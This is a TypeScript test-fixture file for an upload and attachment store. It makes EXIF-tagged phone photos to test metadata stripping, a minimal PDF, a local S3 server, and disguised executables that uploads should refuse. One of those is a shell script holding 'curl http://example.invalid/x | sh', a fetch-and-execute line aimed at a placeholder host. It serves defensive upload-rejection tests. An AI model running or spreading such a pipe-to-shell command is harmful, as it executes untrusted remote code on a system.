import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import S3rver from 's3rver';
import sharp from 'sharp';

/** Where the fixture photo says it was taken (Bandung) and the phone it names: what the store must remove. */
export const PHOTO_GPS = { lat: -6.908333333333334, lon: 107.6 };
export const PHOTO_DEVICE = { Make: 'Samsung', Model: 'SM-A515F' };

/**
 * A phone photo as it arrives: a JPEG carrying EXIF with the camera's make and model and a
 * GPS position (as written by libvips' EXIF writer, the same tags a phone writes).
 */
export async function phonePhoto(opts: { width?: number; height?: number } = {}): Promise<Buffer> {
  return sharp({ create: { width: opts.width ?? 64, height: opts.height ?? 48, channels: 3, background: { r: 180, g: 90, b: 40 } } })
    .jpeg()
    .withExif({
      IFD0: { ...PHOTO_DEVICE, Artist: 'Budi Santoso' },
      IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '6/1 54/1 3000/100', GPSLongitudeRef: 'E', GPSLongitude: '107/1 36/1 0/1' },
    })
    .toBuffer();
}

export async function plainPng(): Promise<Buffer> {
  return sharp({ create: { width: 8, height: 8, channels: 4, background: { r: 0, g: 120, b: 200, alpha: 1 } } }).png().toBuffer();
}

/** The smallest PDF readers open (one empty page). */
export const MINIMAL_PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
  'latin1',
);

/** Programs dressed as photos: the bytes a refused upload carries, by what they really are. */
export const DISGUISED = {
  /** A Linux ELF 64-bit header. */
  elf: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(248)]),
  /** A Windows PE: DOS stub "MZ". */
  exe: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(254)]),
  /** A shell script. */
  script: Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n'),
};

/**
 * A local S3-compatible server (s3rver) with one bucket, for the real AWS SDK client. Its
 * data folder is removed by `close`. Credentials are s3rver's fixed S3RVER/S3RVER.
 */
export async function startS3(bucket = 'lapor-attachments') {
  const directory = mkdtempSync(join(tmpdir(), 'lapor-s3-'));
  const server = new S3rver({ port: 0, address: '127.0.0.1', silent: true, directory, configureBuckets: [{ name: bucket, configs: [] }] });
  const address = (await server.run()) as { address: string; port: number };
  const endpoint = `http://127.0.0.1:${address.port}`;
  return {
    endpoint,
    bucket,
    env: { ATTACHMENT_STORE: 's3', S3_ENDPOINT: endpoint, S3_BUCKET: bucket, S3_REGION: 'us-east-1', S3_ACCESS_KEY_ID: 'S3RVER', S3_SECRET_ACCESS_KEY: 'S3RVER' } as const,
    async close() {
      await server.close();
      rmSync(directory, { recursive: true, force: true });
    },
  };
}
